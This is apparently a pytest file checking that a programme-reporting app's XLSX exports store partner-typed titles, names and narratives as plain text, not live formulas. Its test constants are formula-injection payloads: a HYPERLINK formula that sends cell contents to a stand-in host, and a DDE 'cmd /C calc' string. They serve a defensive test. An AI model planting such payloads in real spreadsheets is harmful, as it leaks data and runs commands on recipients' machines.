"""Programme spreadsheets write text typed by partners as text, never as a live formula.

The finding: a partner's activity title `=HYPERLINK(…)` became a live formula in the
coordinator's XLSX export. openpyxl writes any string that begins with `=` as a formula
(data type "f"), so each cell is checked for its type, not only its value.
"""

import io
from datetime import date

from openpyxl import load_workbook

from kohtaanto.employers.tests.factories import CompanyFactory
from kohtaanto.programme import exports, selectors, services
from kohtaanto.programme.models import ActivityEntry
from kohtaanto.programme.services import ParticipantInput
from kohtaanto.programme.tests.test_cost_reports import (  # noqa: F401 (fixtures)
    draft,
    first_half_recorded,
    full_time_post,
)

TITLE = '=HYPERLINK("http://example.invalid/?x="&A1;"Avaa")'
PERSON = "@SUM(1,2)"
COMPANY = "+1+cmd|' /C calc'!A0"


def test_partner_activity_export_writes_formula_like_text_as_text(client_as, coordinator):
    services.activity_entry_create(
        actor=coordinator,
        operation=None,
        kind=ActivityEntry.Kind.COMPANY_VISIT,
        date=date(2026, 3, 10),
        title=TITLE,
        description="",
        participants=[ParticipantInput(None, PERSON)],
        referral_from=None,
        referral_to=None,
        referred_count=0,
        companies=[CompanyFactory(name=COMPANY, employment_area=coordinator.employment_area)],
    )
    response = client_as(coordinator).get(
        "/programme/activity/partner-report/?start=2026-01-01&end=2026-12-31&format=xlsx"
    )
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    row = next(r for r in sheet.iter_rows(min_row=5) if r[0].value is not None)
    title, people, companies = row[2], row[3], row[4]
    assert (title.data_type, title.value) == ("s", "'" + TITLE)
    assert people.data_type == "s" and people.value.startswith("'" + PERSON)
    assert (companies.data_type, companies.value) == ("s", "'" + COMPANY)


def test_cost_report_narrative_is_written_as_text(coordinator, draft):  # noqa: F811
    report = services.cost_report_update(actor=coordinator, report=draft, narrative=TITLE)
    content = exports.cost_report_xlsx(report, selectors.cost_report_figures(report))
    sheet = load_workbook(io.BytesIO(content))["Edistyminen"]
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", "'" + TITLE)
